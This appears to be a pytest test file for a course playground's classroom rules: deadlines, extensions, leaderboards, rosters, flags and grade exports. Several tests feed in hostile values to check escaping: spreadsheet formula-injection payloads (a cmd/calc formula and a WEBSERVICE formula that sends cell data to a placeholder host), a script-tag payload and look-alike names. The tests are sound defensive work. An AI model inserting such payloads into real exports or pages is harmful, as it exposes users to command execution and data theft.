"""The class's rules (playground/course/): deadlines and extensions, boards fair across GPUs and the names students
show on them, flags, the roster's changes, announcements, the grades file and the code export, similarity, the
students' trajectories. Plain Python, run without a server; nothing here grades on a GPU (tests/test_class.py does):
an accepted submission is recorded through the store, as the grader records one."""
from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from conftest import ROOT
from playground.course import Classroom, ExerciseError, load_exercise, load_exercises, similarity, submitting
from playground.course.exercises import parse_time
from playground.settings import Settings

pytestmark = [pytest.mark.timeout(300),
              pytest.mark.filterwarnings("ignore::pandas.errors.Pandas4Warning")]  # from Gradio's queue
TEACHER_PW = "teacher-secret"
CLASS_PW = "class-secret"
NOW = 1_800_000_000.0  # a fixed clock: 2027-01-15 08:00 UTC


def exercise_folder(tmp_path, name: str = "vector_add", extra: str = "") -> Path:
    """A copy of a shipped exercise in a folder of exercises of its own, its exercise.toml with `extra` added."""
    folder = tmp_path / "exercises" / name
    folder.mkdir(parents=True)
    for f in (ROOT / "exercises" / name).iterdir():
        (folder / f.name).write_text(f.read_text())
    (folder / "exercise.toml").write_text((ROOT / "exercises" / name / "exercise.toml").read_text() + extra)
    return folder


def room_for(tmp_path, extra: str = "", clock=lambda: NOW, **kwargs) -> Classroom:
    folder = exercise_folder(tmp_path, extra=extra)
    settings = Settings(data_dir=tmp_path / "data", teacher_password=TEACHER_PW, password=CLASS_PW)
    return Classroom(settings, exercises_dir=folder.parent, clock=clock, **kwargs)


def accepted(room, student, *, ms=0.1, sol=None, gpu=None, late=False, when=None, source="src") -> int:
    """An accepted submission, recorded as the grader records one."""
    return room.store.add_submission("vector_add", student, source, {}, accepted=True, median_ms=ms,
                                     baseline_ms=0.2, gpu=gpu, sol_percent=sol, late=late, when=when,
                                     record={"name": gpu, "driver": "580", "tilelang": "0.1.15"} if gpu else None)


# -- exercises and deadlines -------------------------------------------------------------------------------------------
def test_a_deadline_is_read_in_its_forms_and_a_time_without_a_zone_is_a_clear_refusal(tmp_path):
    assert parse_time("2027-01-15 08:00") == NOW  # text without an offset: UTC
    assert parse_time("2027-01-15T09:00:00+01:00") == NOW == parse_time("2027-01-15T08:00Z")
    for bad in ("tomorrow", "", "2027-13-40"):
        with pytest.raises(ExerciseError, match="date and time|empty"):
            parse_time(bad)
    ok = load_exercise(exercise_folder(tmp_path / "a", extra="deadline = 2027-01-15T09:00:00+01:00\n"
                                                               "late_hours = 24\nlate_penalty = 0.25\npoints = 4\n"))
    assert (ok.deadline, ok.late_hours, ok.late_penalty, ok.points) == (NOW, 24.0, 0.25, 4.0)
    assert ok.public()["deadline"] == "2027-01-15T08:00:00+00:00" and ok.public()["late_until"].startswith("2027-01-16")
    assert ("Due 2027-01-15 09:00 +01:00 (08:00 UTC); late submissions are taken until 2027-01-16 09:00 +01:00 "
            "(08:00 UTC), scored 25% less") in ok.deadline_text()
    for i, (extra, said) in enumerate((("deadline = 2027-01-15T09:00:00\n", "offset from UTC"),
                                       ("late_hours = 5\n", "a late window needs a deadline"),
                                       ("deadline = 2027-01-15\nlate_penalty = 2\n", "late_penalty must be a number "
                                                                                     "from 0 to 1"),
                                       ('points = "ten"\n', "points must be a number"))):
        with pytest.raises(ExerciseError, match=said):
            load_exercise(exercise_folder(tmp_path / str(i), extra=extra))
    # a folder whose exercise.toml is wrong is left out of the list, the others stay
    assert set(load_exercises(tmp_path / "1" / "exercises")) == set()
    assert set(load_exercises(tmp_path / "a" / "exercises")) == {"vector_add"}


def test_the_teacher_is_told_which_exercise_folders_are_left_out_and_why_and_students_never_see_them(tmp_path):
    # A wrong exercise.toml vanished from the lists with a line in the server's log only; a reference.py that does
    # not parse was offered to students, to fail at their first submission.
    room = room_for(tmp_path)
    exercise_folder(tmp_path, "softmax", extra="deadline = 2027-01-15T09:00:00\n")  # no offset from UTC
    badref = exercise_folder(tmp_path, "tiled_gemm")
    (badref / "reference.py").write_text("def reference(a, b):\n    return a @@ b\n")
    told = room.left_out_exercises("teacher", "")
    assert told["exercises"] == ["vector_add"] and told["folder"] == str(tmp_path / "exercises")
    assert any("softmax" in w and "offset from UTC" in w for w in told["left_out"]), told
    assert any(w.startswith("tiled_gemm/reference.py line 2") for w in told["left_out"]), told
    assert [e["name"] for e in room.exercises("Ada")] == ["vector_add"]
    assert room.left_out_exercises("Ada", "")["error"]["stage"] == "permission"
    latin = shutil.copytree(ROOT / "exercises" / "vector_add", tmp_path / "exercises" / "latin")
    (latin / "statement.md").write_bytes("# Café\n".encode("latin-1"))  # Latin-1: this folder out, the others in
    told = room.left_out_exercises("teacher", "")
    assert told["exercises"] == ["vector_add"] and any(w.startswith("latin: UnicodeDecodeError") for w in
                                                       told["left_out"]), told


def test_the_exercises_folder_is_a_setting_so_a_containers_volume_can_hold_it(tmp_path):
    folder = exercise_folder(tmp_path / "volume").parent
    settings = Settings.from_env({"PLAYGROUND_EXERCISES": str(folder), "PLAYGROUND_DATA": str(tmp_path / "data")})
    assert [e["name"] for e in Classroom(settings).exercises()] == ["vector_add"]
    assert Settings.from_env({}).exercises_dir == ROOT / "exercises"


def test_a_deadline_is_shown_in_the_zone_the_teacher_wrote_it_in_with_utc_beside_it(tmp_path):
    # Written "+01:00" in exercise.toml, it was shown to students in UTC only, an hour off the teacher's words.
    room = room_for(tmp_path, "deadline = 2027-01-15T09:00:00+01:00\nlate_hours = 24\n")
    listed = {e["name"]: e for e in room.exercises("Ada")}["vector_add"]
    assert "Due 2027-01-15 09:00 +01:00 (08:00 UTC)" in listed["deadline_text"]
    assert "taken until 2027-01-16 09:00 +01:00 (08:00 UTC)" in listed["deadline_text"]
    assert listed["deadline"] == "2027-01-15T08:00:00+00:00"  # (the API's times stay UTC)


def test_a_submission_after_the_late_window_is_refused_kept_and_an_extension_reopens_it_for_one_student(tmp_path):
    clock = [NOW - 60]
    room = room_for(tmp_path, "deadline = 2027-01-15T08:00:00Z\nlate_hours = 1\nlate_penalty = 0.5\n",
                    clock=lambda: clock[0], has_gpu=lambda: False)
    starter = room.exercises_by_name()["vector_add"].starter
    # before the deadline, and in the late window: past the deadline check (to the GPU, which this server lacks)
    for t in (NOW - 60, NOW + 1800):
        clock[0] = t
        assert room.submit("Ada", "vector_add", starter, {})["error"]["stage"] == "device"
    clock[0] = NOW + 3601
    closed = room.submit("Ada", "vector_add", starter, {"block_N": "2048"})
    assert closed["error"]["stage"] == "deadline" and "closed at 2027-01-15 09:00 UTC" in closed["error"]["message"]
    kept = room.store.submissions("vector_add", with_source=True)
    assert [(s["student"], s["status"], s["params"]) for s in kept] == [("Ada", "refused", {"block_N": 2048})]
    assert room.extend("Ada", CLASS_PW, "vector_add", "Ada", "2027-01-15 10:00")["ok"] is False  # a student
    moved = room.extend("teacher", "", "vector_add", "Ada", "2027-01-15 10:00")
    assert moved["ok"] and "Ada's deadline of vector_add is now 2027-01-15 10:00 UTC" in moved["message"]
    assert room.submit("Ada", "vector_add", starter, {})["error"]["stage"] == "device"  # open again for her ...
    assert room.submit("Grace", "vector_add", starter, {})["error"]["stage"] == "deadline"  # ... and only her
    listed = {e["name"]: e for e in room.exercises("Ada")}["vector_add"]
    assert listed["extended"] and listed["deadline"] == "2027-01-15T10:00:00+00:00"
    assert "moved" not in {e["name"]: e for e in room.exercises("Grace")}["vector_add"]["deadline_text"]
    assert "no date and time" in room.extend("teacher", "", "vector_add", "Ada", "next week")["error"]["message"]
    # a script submitting after the close in a loop fills no disk: a few are kept, the rest only answered
    for _ in range(room.LATE + 5):
        assert room.submit("Grace", "vector_add", starter, {})["error"]["stage"] == "deadline"
    assert sum(s["student"] == "Grace" for s in room.store.submissions()) == room.LATE


def test_a_deadline_moves_only_later_and_only_for_a_student_the_class_knows_and_can_be_put_back(tmp_path):
    # A teacher's typo moved a deadline for nobody and said it worked; a date before the exercise's locked a student
    # out of an open exercise ("closed at ... the deadline the teacher moved for you"); nothing took one back.
    clock = [NOW - 3600]
    room = room_for(tmp_path, "deadline = 2027-01-15T08:00:00Z\n", clock=lambda: clock[0], has_gpu=lambda: False)
    starter = room.exercises_by_name()["vector_add"].starter
    for who in ("Ada Lovelace", "José Núñez"):
        room.submit(who, "vector_add", starter, {})  # (no GPU: refused, but their names are known now)
    unknown = room.extend("teacher", "", "vector_add", "Nobody", "2027-01-16 10:00")
    assert unknown["ok"] is False and "no student named 'Nobody'" in unknown["error"]["message"]
    earlier = room.extend("teacher", "", "vector_add", "Ada Lovelace", "2027-01-14 10:00")
    assert earlier["ok"] is False and "not after the exercise's deadline" in earlier["error"]["message"]
    assert room.store.extensions("vector_add") == {}
    by_hand = room.extend("teacher", "", "vector_add", "josé  NÚÑEZ", "2027-01-16 10:00")
    assert by_hand["ok"] and by_hand["student"] == "José Núñez"
    room.extend("teacher", "", "vector_add", "Ada Lovelace", "2027-01-17 10:00")
    both = room.extend("teacher", "", "vector_add", "Ada Lovelace", "2027-01-18 10:00")
    assert list(both["extensions"]) == ["Ada Lovelace", "José Núñez"]
    assert "Ada Lovelace, 2027-01-18 10:00 UTC; José Núñez, 2027-01-16 10:00 UTC" in both["message"]
    back = room.extend("teacher", "", "vector_add", "Ada Lovelace", "")
    assert back["ok"] and "back on the exercise's deadline" in back["message"]
    assert list(back["extensions"]) == ["José Núñez"]
    clock[0] = NOW + 60
    assert room.submit("Ada Lovelace", "vector_add", starter, {})["error"]["stage"] == "deadline"
    assert room.submit("José Núñez", "vector_add", starter, {})["error"]["stage"] == "device"  # still open for him


def test_a_roster_exported_by_a_school_system_gives_no_password_to_its_header_and_the_preview_names_who_it_read(tmp_path):
    # Canvas's export ("Student,ID,SIS Login ID,Section") has no "name" column: its header became a student with a
    # password, and the preview said "4 names" without saying which.
    room = room_for(tmp_path)
    canvas = ('Student,ID,SIS Login ID,Section\n"Lovelace, Ada",101,ada,A\n    Points Possible,,,\n'
              '"Hopper, Grace",102,grace,A\n')
    preview = room.roster_preview("teacher", "", canvas)
    assert preview["names"] == ["Lovelace, Ada", "Hopper, Grace"]
    assert "2 names from the column 'Student': Lovelace, Ada, Hopper, Grace" in preview["message"]
    room.import_roster("teacher", "", canvas)
    assert sorted(room.store.password_hashes()) == ["Hopper, Grace", "Lovelace, Ada"]
    moodle = room.roster_preview("teacher", "", "First name,Surname,Email address\nAlan,Turing,a@x\n")
    assert moodle["names"] == ["Alan Turing"] and "the columns 'First name' and 'Surname'" in moodle["message"]
    unnamed = room.roster_preview("teacher", "", "Email,Section\nada@x,A\n")
    assert unnamed["ok"] is False and "names no column of names" in unnamed["error"]["message"]
    assert room.roster_preview("teacher", "", "Ada\nGrace\n")["names"] == ["Ada", "Grace"]  # one a line, as before


def test_a_roster_with_a_byte_order_mark_a_name_no_one_could_log_in_with_or_a_formula_is_read_safely(tmp_path):
    room = room_for(tmp_path)
    assert room.roster_preview("teacher", "", "\ufeffname\nAda\n")["names"] == ["Ada"]
    for unusable in ("A" * 65, "Ada\u200bLovelace"):
        answer = room.roster_preview("teacher", "", f"Grace\n{unusable}\n")
        assert answer["ok"] is False and "cannot log in" in answer["error"]["message"]
    made = room.import_roster("teacher", "", 'name\n"=WEBSERVICE(""http://x/""&B2)"\n')
    assert '\n"\'=WEBSERVICE' in made["csv"], "a name is never a formula in the passwords' CSV"


def test_a_roster_name_typed_in_another_case_finds_its_student_and_an_unknown_one_is_refused(tmp_path):
    room = room_for(tmp_path)
    room.import_roster("teacher", "", "name\nAda Lovelace\nGrace Hopper\n")
    new = room.reset_password("teacher", "", "ada lovelace")
    assert new["ok"] and new["student"] == "Ada Lovelace"
    assert "no student named 'Ada Byron' on the roster" in \
        room.reset_password("teacher", "", "Ada Byron")["error"]["message"]
    assert room.remove_student("teacher", "", "GRACE HOPPER")["student"] == "Grace Hopper"
    assert "Grace Hopper" not in room.store.password_hashes()


def test_a_student_sees_their_own_submissions_and_code_and_the_teacher_one_students_and_no_one_anothers(tmp_path):
    # A student saw a submission's answer once, at Submit; nothing showed their history, or gave their code back.
    room = room_for(tmp_path)
    first = accepted(room, "Ada", ms=0.2, source="ada's first")
    room.store.flag(first, "same as Grace's")
    second = accepted(room, "Ada", ms=0.1, source="ada's second")
    graces = accepted(room, "Grace", ms=0.3, source="grace's")
    mine = room.my_submissions("Ada", "vector_add")
    assert [r["id"] for r in mine["rows"]] == [second, first]
    assert mine["rows"][1]["off_board"] is True and "same as Grace's" not in str(mine), "the teacher's reason stays"
    free = room.my_submission("Ada", second)  # the class password: anyone may log in as "Ada"
    assert free["error"]["stage"] == "permission" and "source" not in free
    room.import_roster("teacher", "", "Ada\nGrace\n")  # now a name is someone's own
    assert room.my_submission("Ada", second)["source"] == "ada's second"
    assert room.my_submission("Ada", graces)["ok"] is False  # another's is as missing as none
    assert room.my_submissions("", "")["error"]["stage"] == "permission"
    hers = room.all_submissions("teacher", "", "", "grace")
    assert hers["student"] == "Grace" and [r["id"] for r in hers["rows"]] == [graces]
    assert room.all_submissions("teacher", "", "", "Nobody")["ok"] is False
    assert len(room.all_submissions("teacher", "")["rows"]) == 3


# -- the board ---------------------------------------------------------------------------------------------------------
def test_the_board_ranks_by_the_share_of_the_speed_of_light_and_shows_the_gpu_and_its_record(tmp_path):
    room = room_for(tmp_path)
    accepted(room, "Ada", ms=0.12, sol=80.0, gpu="NVIDIA H100 80GB HBM3")  # slower, on a slower GPU, nearer its bound
    accepted(room, "Grace", ms=0.09, sol=70.0, gpu="NVIDIA H200")
    accepted(room, "Grace", ms=0.30, sol=20.0, gpu="NVIDIA H200")  # her worse try does not count
    accepted(room, "Alan", ms=0.05)  # measured before shares were kept: after those that have one
    rows = room.leaderboard("vector_add")["rows"]
    assert [(r["student"], r["gpu"], r["sol_percent"]) for r in rows] == [
        ("Ada", "NVIDIA H100 80GB HBM3", 80.0), ("Grace", "NVIDIA H200", 70.0), ("Alan", None, None)]
    assert rows[0]["record"]["tilelang"] == "0.1.15" and rows[1]["attempts"] == 2
    assert "rerun" not in rows[0]
    assert room.leaderboard("vector_add", "teacher")["rows"][0]["rerun"] == f"?rerun={rows[0]['submission']}"


def by_agent(room, student, name="bot", **kwargs) -> int:
    """An accepted submission an agent of `student` made with a token of theirs named `name`."""
    made = room.make_token(student, name)
    agent = room.agent_of(made["token"])
    return room.store.add_submission("vector_add", student, kwargs.pop("source", "src"), {}, accepted=True,
                                     median_ms=kwargs.pop("ms", 0.1), baseline_ms=0.2,
                                     sol_percent=kwargs.pop("sol", None), agent=agent)


def test_the_board_tells_a_students_own_entry_from_their_agents_and_filters_either(tmp_path):
    room = room_for(tmp_path)
    by_agent(room, "Ada", "<b>claude</b>", ms=0.05, sol=90.0)
    accepted(room, "Ada", ms=0.2, sol=40.0)
    accepted(room, "Grace", ms=0.1, sol=60.0)
    by_agent(room, "Grace", "gee's bot", ms=0.3, sol=20.0)
    rows = room.leaderboard("vector_add")["rows"]
    assert [(r["rank"], r["student"], r["kind"], r["agent"]) for r in rows] == [
        (1, "Ada", "agent", "<b>claude</b>"), (2, "Grace", "student", None), (3, "Ada", "student", None),
        (4, "Grace", "agent", "gee's bot")]
    assert all(r["attempts"] == 1 for r in rows), "a student's tries and their agents' counted apart"
    students = room.leaderboard("vector_add", who="students")["rows"]
    assert [(r["rank"], r["student"]) for r in students] == [(1, "Grace"), (2, "Ada")]
    agents = room.leaderboard("vector_add", who="agents")["rows"]
    assert [(r["rank"], r["agent"]) for r in agents] == [(1, "<b>claude</b>"), (2, "gee's bot")]
    assert room.leaderboard("vector_add", who="bots")["error"]["stage"] == "parameters"
    from playground.ui.classroom import board_frame
    assert list(board_frame(room.leaderboard("vector_add"))["who"]) == [
        "agent: <b>claude</b>", "student", "student", "agent: gee's bot"]  # (a table cell's text, not HTML)


def test_agents_are_forbidden_by_the_exercise_or_the_teachers_switch_and_their_entries_leave_the_board(tmp_path):
    room = room_for(tmp_path, "agents = false\n", has_gpu=lambda: False)
    ex = room.exercises_by_name()["vector_add"]
    assert ex.agents is False and ex.public()["agents"] is False
    by_agent(room, "Ada", ms=0.05)
    accepted(room, "Grace")
    agent = room.agent_of(room.make_token("Ada", "another")["token"])
    refused = room.submit("Ada", "vector_add", ex.starter, {}, agent=agent)
    assert refused["error"]["stage"] == "permission" and "forbidden" in refused["error"]["message"]
    assert room.submit("Ada", "vector_add", ex.starter, {})["error"]["stage"] == "device", "Ada herself may"
    board = room.leaderboard("vector_add")
    assert [r["student"] for r in board["rows"]] == ["Grace"] and board["agents_allowed"] is False
    assert room.set_agents("Ada", "", "vector_add", True)["error"]["stage"] == "permission"
    assert room.set_agents("teacher", "", "vector_add", "yes")["error"]["stage"] == "parameters"
    assert room.set_agents("teacher", "", "vector_add", True)["agents_allowed"] is True
    assert [r["kind"] for r in room.leaderboard("vector_add")["rows"]] == ["agent", "student"]
    assert room.submit("Ada", "vector_add", ex.starter, {}, agent=agent)["error"]["stage"] == "device"
    assert room.set_agents("teacher", "", "vector_add", None)["agents_allowed"] is False  # exercise.toml's again
    with pytest.raises(ExerciseError, match="agents must be true or false"):
        load_exercise(exercise_folder(tmp_path / "bad", extra='agents = "no"\n'))


def test_an_agents_work_is_marked_in_the_exports_and_counts_for_nothing_in_the_grades(tmp_path):
    room = room_for(tmp_path)
    by_agent(room, "Ada", "=cmd|' /C calc'!A0", source="# the agent's\n")
    accepted(room, "Grace")
    room.store.add_submission("vector_add", "Alan", "x", {}, accepted=False, message="wrong",
                              agent=room.agent_of(room.make_token("Alan", "alan's")["token"]))
    rows = list(csv.DictReader(io.StringIO(room.export_csv("teacher", "")["csv"])))
    assert {r["student"]: r["agent"] for r in rows} == {"Ada": "'=cmd|' /C calc'!A0", "Grace": "",
                                                        "Alan": "alan's"}
    with zipfile.ZipFile(io.BytesIO(room.export_code("teacher", "", "vector_add")["zip"])) as z:
        index = {r["student"]: r for r in csv.DictReader(io.StringIO(z.read("index.csv").decode()))}
        assert index["Ada"]["file"].endswith("-Ada-agent.py") and index["Ada"]["agent"]
        assert z.read(index["Ada"]["file"]).decode() == "# the agent's\n"
    grades = {r["student"]: r["vector_add"] for r in room.grades("teacher", "", "vector_add")["rows"]}
    assert grades == {"Ada": 0.0, "Grace": 10.0, "Alan": 0.0}, "a grade is for the student's own work"
    listed = {r["student"]: r["agent"] for r in room.all_submissions("teacher", "")["rows"]}
    assert listed == {"Ada": "=cmd|' /C calc'!A0", "Grace": None, "Alan": "alan's"}


def test_a_name_on_the_boards_mixing_alphabets_to_look_like_another_is_refused():
    from playground.course.boards import check_alias
    for look_alike in ("Grace Hopp\u0435r", "Te\u0430cher", "\u03a4eacher"):  # Cyrillic е, а; a Greek capital tau
        shown, why = check_alias(look_alike, "Ada", {"Ada", "Grace Hopper"})
        assert shown is None and "one alphabet" in why, look_alike
    for own in ("Zoë Müller", "Łukasz", "Иван Петров", "山田 はなこ", "김 민준", "Ada 2", "佐々木 花子", "Kaʻiulani",
                "ﾔﾏﾀﾞ 太郎"):  # one alphabet each (々 and the ʻokina are modifier letters; half-width kana)
        assert check_alias(own, "Ada", {"Ada", "Grace Hopper"}) == (own, None)


def test_a_name_on_the_boards_is_limited_checked_and_never_someone_elses(tmp_path):
    room = room_for(tmp_path)
    accepted(room, "Ada")
    accepted(room, "Grace")
    for bad, said in (("x", "2 to 24"), ("y" * 25, "2 to 24"), ("<b>Ada</b>", "letters, digits"),
                      ("=HYPERLINK(1)", "letters, digits"), ("-Ada", "starts with a letter"),
                      ("Teacher", "someone else's"), ("GRACE", "someone else's"), ("A\u200bda", "letters, digits")):
        answer = room.set_alias("Ada", bad)
        assert not answer["ok"] and said in answer["error"]["message"], (bad, answer)
    assert room.set_alias("Ada", "  Speedy   A ")["alias"] == "Speedy A"
    assert "another student shows" in room.set_alias("Grace", "speedy a")["error"]["message"]
    # the same name to the eye: full-width letters (NFKC), a case only Unicode folds
    accepted(room, "Linus")
    assert "another student shows" in room.set_alias("Linus", "Ｓpeedy A")["error"]["message"]
    assert room.set_alias("Grace", "Émile")["ok"] and "another student shows" in room.set_alias(
        "Linus", "émile")["error"]["message"]
    assert room.set_alias(None, "Anon")["error"]["stage"] == "permission"
    assert room.set_alias("teacher", "Anon")["error"]["stage"] == "permission"
    shown = [r["student"] for r in room.leaderboard("vector_add")["rows"]]
    assert "Speedy A" in shown and "Ada" not in shown
    assert "Speedy A (Ada)" in [r["student"] for r in room.leaderboard("vector_add", "teacher")["rows"]]
    assert room.set_alias("Ada", "")["alias"] is None and "Ada" in [r["student"] for r in
                                                                    room.leaderboard("vector_add")["rows"]]
    for _ in range(room.ALIASES):
        room.set_alias("Grace", "Gee")
    assert room.set_alias("Grace", "Gee")["error"]["stage"] == "busy"


def test_a_flagged_submission_is_off_the_board_out_of_the_grades_and_kept_with_its_reason(tmp_path):
    room = room_for(tmp_path)
    ada = accepted(room, "Ada", sol=50.0)
    accepted(room, "Grace", sol=40.0)
    refused = room.flag("Grace", CLASS_PW, ada, "mine")
    assert refused["error"]["stage"] == "permission"
    assert "say why" in room.flag("teacher", "", ada, " \n ")["error"]["message"]
    assert "no submission number" in room.flag("teacher", "", 99, "x")["error"]["message"]
    flagged = room.flag("teacher", "", ada, "<script>alert(1)</script>\x07 copied\nfrom Grace")
    assert flagged["ok"] and flagged["reason"] == "<script>alert(1)</script> copied\nfrom Grace"
    assert [r["student"] for r in room.leaderboard("vector_add")["rows"]] == ["Grace"]
    assert room.open_submission("teacher", "", ada)["flag"].startswith("<script>")  # kept as text: the page escapes
    grades = {r["student"]: r["vector_add"] for r in room.grades("teacher", "")["rows"]}
    assert grades == {"Ada": 0.0, "Grace": 10.0}
    assert room.unflag("teacher", "", ada)["ok"] and len(room.leaderboard("vector_add")["rows"]) == 2
    from playground.ui.classroom import submissions_frame
    frame = submissions_frame(room.all_submissions("teacher", ""))
    assert list(frame["flag"]) == ["", ""]


def test_a_reset_board_asks_first_and_an_undo_brings_it_back(tmp_path):
    room = room_for(tmp_path)
    accepted(room, "Ada")
    preview = room.board_preview("teacher", "", "vector_add")
    assert "hides its 1 entry" in preview["message"] and len(room.leaderboard("vector_add")["rows"]) == 1
    assert room.reset_board("teacher", "", "vector_add")["hidden"] == 1
    assert room.leaderboard("vector_add")["rows"] == []
    assert room.undo_reset("teacher", "", "vector_add")["entries"] == 1
    assert "never reset" in room.undo_reset("teacher", "", "vector_add")["error"]["message"]


# -- the roster ----------------------------------------------------------------------------------------------------------
class App:
    """What the roster's changes reach of Gradio's app: its session tokens."""

    def __init__(self):
        self.tokens = {}


def open_session(room, app, token, name, password):
    credential = room.credential(name, password)
    assert credential is not None, name
    app.tokens[token] = name
    room.session_opened(app, token, name, credential)


def test_a_roster_import_says_first_which_logged_in_students_it_ends(tmp_path):
    from playground.ui.classroom import end_sessions_off_the_roster
    room, app = room_for(tmp_path), App()
    end_sessions_off_the_roster(app, room)
    open_session(room, app, "t1", "Ada", CLASS_PW)
    open_session(room, app, "t2", "teacher", TEACHER_PW)
    open_session(room, app, "t5", "Carol", CLASS_PW)
    preview = room.roster_preview("teacher", "", "Ada\nGrace\n")
    assert sorted(preview["ending"]) == ["Ada", "Carol"] and "ends 2 logged-in sessions" in preview["message"]
    # Ada gets a password of her own; Carol, left off the list, gets none: the teacher is told which is which
    assert "Ada: they log in again with the password the import gives them" in preview["message"]
    assert preview["not_on_roster"] == ["Carol"] and "Carol: not on this roster" in preview["message"]
    assert app.tokens == {"t1": "Ada", "t2": "teacher", "t5": "Carol"} and not room.has_roster(), \
        "a preview changes nothing"
    mine = dict(csv.reader(io.StringIO(room.import_roster("teacher", "", "Ada\nGrace\n")["csv"])))
    assert app.tokens == {"t2": "teacher"}
    open_session(room, app, "t3", "Ada", mine["Ada"])
    open_session(room, app, "t4", "Grace", mine["Grace"])
    # adding a student ends nobody's session; giving Grace a new password ends hers
    assert room.roster_preview("teacher", "", "Alan")["ending"] == []
    assert room.roster_preview("teacher", "", "Grace\nAlan")["ending"] == ["Grace"]
    assert room.roster_preview("Ada", mine["Ada"], "Grace")["error"]["stage"] == "permission"


def test_removing_a_student_ends_their_session_refuses_their_login_and_keeps_their_submissions(tmp_path):
    from playground.ui.classroom import end_sessions_off_the_roster
    room, app = room_for(tmp_path), App()
    end_sessions_off_the_roster(app, room)
    mine = dict(csv.reader(io.StringIO(room.import_roster("teacher", "", "Ada\nGrace\n")["csv"])))
    open_session(room, app, "a", "Ada", mine["Ada"])
    open_session(room, app, "g", "Grace", mine["Grace"])
    accepted(room, "Ada")
    assert room.remove_student("Grace", TEACHER_PW + "x", "Ada")["error"]["stage"] == "permission"
    assert room.remove_student("teacher", "", "Ada")["ok"]
    assert app.tokens == {"g": "Grace"} and room.credential("Ada", mine["Ada"]) is None
    assert room.leaderboard("vector_add")["rows"] == [] and len(room.all_submissions("teacher", "")["rows"]) == 1
    assert "Ada" not in {r["student"] for r in room.grades("teacher", "")["rows"]}
    assert "no student named 'Ada'" in room.remove_student("teacher", "", "Ada")["error"]["message"]
    new = room.reset_password("teacher", "", "Grace")
    assert new["ok"] and app.tokens == {} and room.credential("Grace", mine["Grace"]) is None
    assert room.credential("Grace", new["password"]) is not None
    assert room.remove_student("teacher", "", "Grace")["ok"]
    assert room.has_roster() and not room.login("Grace", CLASS_PW), "an empty roster never brings back the class password"
    listed = {r["student"]: r for r in room.roster_list("teacher", "")["rows"]}
    assert listed["Ada"]["removed"] and listed["Ada"]["submissions"] == 1 and listed["Ada"]["last_seen"]
    again = dict(csv.reader(io.StringIO(room.import_roster("teacher", "", "Ada")["csv"])))
    assert room.login("Ada", again["Ada"]) and len(room.leaderboard("vector_add")["rows"]) == 1


# -- announcements, what students did ---------------------------------------------------------------------------------
def test_an_announcement_is_plain_text_for_every_page_and_only_the_teacher_posts_it(tmp_path):
    from playground.ui.classroom import announcement_html
    room = room_for(tmp_path)
    assert room.announce("Ada", CLASS_PW, "free pizza")["error"]["stage"] == "permission"
    posted = room.announce("teacher", "", "Lab 2 is due <b>Friday</b>\x00\n" + "x" * 3000)["announcement"]
    assert posted["text"].startswith("Lab 2 is due <b>Friday</b>\n") and len(posted["text"]) == 2000
    shown = announcement_html(room.announcement())
    assert "&lt;b&gt;Friday&lt;/b&gt;" in shown and "<b>Friday" not in shown
    assert room.announce("teacher", "", "")["announcement"] is None and room.announcement() is None


def test_compiles_and_runs_on_an_exercise_are_kept_for_a_logged_in_student_only(tmp_path):
    room = room_for(tmp_path)
    run = {"ok": True, "timing": {"median_ms": 0.2}, "percent_of_copy_bandwidth": 61.0, "percent_of_matmul_peak": 0.4}
    room.note_activity("Ada", "vector_add", "run", run)
    room.note_activity("Ada", "vector_add", "compile", {"ok": False, "error": {"stage": "nvcc", "message": "x" * 900}})
    room.note_activity(None, "vector_add", "run", run)  # no login
    room.note_activity("Ada", "", "run", run)  # no exercise picked
    room.note_activity("Ada", "nope", "run", run)
    room.note_activity("Ada", "vector_add", "tune", run)
    kept = room.store.activity("vector_add")
    assert [(a["action"], a["ok"], a["stage"], a["median_ms"], a["sol_percent"]) for a in kept] == [
        ("run", True, None, 0.2, 61.0), ("compile", False, "nvcc", None, None)]
    assert len(kept[1]["message"]) == 300
    room.note_activity("Grace", "", "compile", run)  # no exercise picked: nothing kept, but Grace was seen
    rows = {r["student"]: r for r in room.roster_list("teacher", "")["rows"]}
    assert rows["Grace"]["last_seen"] and "Grace" not in {a["student"] for a in room.store.activity("vector_add")}


def test_trajectories_give_the_time_to_a_first_correct_submission_speed_over_time_and_who_is_stuck(tmp_path):
    room = room_for(tmp_path)
    for i in range(3):
        room.store.add_activity("vector_add", "Ada", "compile", i > 0, "tilelang" if i == 0 else None,
                                when=NOW + 60 * i)
    room.store.add_activity("vector_add", "Ada", "run", True, median_ms=0.3, sol_percent=30.0, when=NOW + 300)
    accepted(room, "Ada", ms=0.12, sol=70.0, when=NOW + 1200)
    for i in range(6):
        room.store.add_activity("vector_add", "Grace", "compile", False, "python", "SyntaxError", when=NOW + 60 * i)
    answer = room.progress("teacher", "", "vector_add")
    students = {s["student"]: s for s in answer["students"]}
    assert students["Ada"]["minutes_to_correct"] == 20 and answer["median_minutes_to_correct"] == 20
    assert [(p["kind"], p["sol_percent"]) for p in students["Ada"]["points"]] == [("run", 30.0), ("submission", 70.0)]
    assert answer["stuck"] == ["Grace"] and students["Grace"]["last_error"]["message"] == "SyntaxError"
    assert not students["Ada"]["stuck"]
    from playground.ui.classroom import progress_html, trajectory_figure
    figure = trajectory_figure(answer)
    assert [t.name for t in figure.data] == ["Ada"] and list(figure.data[0].y) == [30.0, 70.0]
    assert "Stuck" in progress_html(answer) and "20 min" in progress_html(answer)


# -- exports -------------------------------------------------------------------------------------------------------------
def test_the_grades_file_is_student_and_score_with_the_late_penalty_and_no_formula(tmp_path):
    room = room_for(tmp_path, "deadline = 2027-01-15T08:00:00Z\nlate_hours = 24\nlate_penalty = 0.25\npoints = 8\n")
    room.import_roster("teacher", "", "Ada\nGrace\n=cmd|' /C calc'!A0\nAlan\n")
    accepted(room, "Ada")
    accepted(room, "Ada", late=True)  # one on time is enough for the whole points
    accepted(room, "Grace", late=True)
    accepted(room, "=cmd|' /C calc'!A0")
    room.store.add_submission("vector_add", "Alan", "x", {}, accepted=False, message="wrong")
    answer = room.grades("teacher", "", "vector_add")
    rows = list(csv.DictReader(io.StringIO(answer["csv"])))
    assert list(rows[0]) == ["student", "score"]
    assert {r["student"]: float(r["score"]) for r in rows} == {"Ada": 8.0, "Grace": 6.0, "Alan": 0.0,
                                                              "'=cmd|' /C calc'!A0": 8.0}
    exercise_folder(tmp_path, "softmax")  # a second exercise: a column each, and the total
    everything = list(csv.DictReader(io.StringIO(room.grades("teacher", "")["csv"])))
    assert list(everything[0]) == ["student", "softmax", "vector_add", "total"]
